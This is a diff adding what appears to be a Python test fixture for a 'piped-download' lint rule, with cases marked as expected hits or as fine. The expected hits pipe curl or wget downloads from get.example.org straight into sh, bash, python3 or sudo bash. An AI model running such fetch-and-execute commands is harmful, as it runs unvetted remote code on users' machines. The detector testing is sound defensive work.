@@ -1,0 +1,13 @@
+import os
+import subprocess
+import subprocess as sp
+
+os.system("curl -s http://get.example.org/agent.sh | sh")  # want: piped-download
+subprocess.run("wget -qO- http://get.example.org/i | bash", shell=True, check=True)  # want: piped-download
+URL = "curl http://get.example.org/x.py | python3 -"
+sp.check_call(URL, shell=True)  # want: piped-download
+os.system("curl -fsSL https://get.example.org/agent.sh | sudo bash")  # want: piped-download
+os.system("curl -s http://example.org/list.txt | sort")  # fine: piped-download
+os.system("curl -o agent.tar https://get.example.org/agent.tar")  # fine: piped-download
+subprocess.run(["curl", "-O", "https://get.example.org/agent.sh"])  # fine: piped-download
+subprocess.run(["sh", "agent.sh"])  # fine: piped-download
